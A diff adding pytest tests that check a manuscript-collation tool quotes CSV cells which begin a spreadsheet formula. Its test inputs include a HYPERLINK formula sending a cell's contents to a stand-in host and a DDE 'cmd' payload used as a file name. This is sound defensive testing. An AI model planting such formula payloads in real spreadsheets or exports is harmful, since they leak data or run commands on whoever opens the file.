@@ -187,3 +187,39 @@ def test_collate_match_writes_the_same_concordance_csv(tmp_path) -> None:
     assert table[0][:4] == ["group", "size", "confidence", "A index"] and len(table[0]) == 3 + 3 * 7
     assert [row[:3] for row in table[1:]] == [["0-0", "2", "1.0000"], ["0-1", "3", "1.0000"], ["0-2", "3", "1.0000"]]
     assert table[2][3:6] == ["1", "A-1.png", "/crops/A/1.png"] and table[2][17:19] == ["0", "C-0.png"]
+
+
+def test_csv_cells_that_start_a_formula_are_quoted() -> None:
+    """OWASP "CSV injection": a cell beginning with = + - @, a tab or a carriage return gets a leading
+    single quote; every other cell is written as it was."""
+    labels = ['=HYPERLINK("http://x.test/?d="&A2,"f. 1r")', "@SUM(1+1)", "+1", "-1", "\t=1", "\r=1", "f. 2v", "0012"]
+    cell = {"index": 0, "canvas": "c0", "xywh": [1, 2, 3, 4], "image": None, "confidence": None, "verdict": None}
+    rows = [
+        {"id": f"0-{k}", "size": 1, "confidence": None, "cells": [{**cell, "label": label}]}
+        for k, label in enumerate(labels)
+    ]
+    table = list(csv.reader(io.StringIO(concordance_csv(rows, ["=A"]), newline="")))
+    assert table[0][3] == "'=A index"
+    assert [row[4] for row in table[1:]] == [f"'{label}" for label in labels[:6]] + ["f. 2v", "0012"]
+
+
+def test_collate_match_quotes_formula_cells_of_its_concordance_csv(tmp_path) -> None:
+    """The command line's ``concordance.csv``: witness names and file names that start a formula."""
+    from PIL import Image
+
+    from collation.engine.illustrations import Illustration
+    from collation.engine.outputs import write_results
+    from collation.engine.pipeline import CollationResult, Manuscript
+
+    def witness(name: str, files: list[str]) -> Manuscript:
+        image = Image.new("RGB", (8, 8))
+        return Manuscript(name, [Illustration(f, f"{k}", image, {"file": f"/crops/{f}"}) for k, f in enumerate(files)])
+
+    result = CollationResult(
+        [witness("@A", ["=cmd|' /C calc'!A0.png", "-1.png"]), witness("B", ["+2.png", "b.png"])],
+        CollationOptions(),
+        collate({(0, 1): diagonal(2, 2)}),
+    )
+    table = list(csv.reader(io.StringIO((write_results(result, tmp_path) / "concordance.csv").read_text(), newline="")))
+    assert table[0][3] == "'@A index"
+    assert [(row[4], row[11]) for row in table[1:]] == [("'=cmd|' /C calc'!A0.png", "'+2.png"), ("'-1.png", "b.png")]
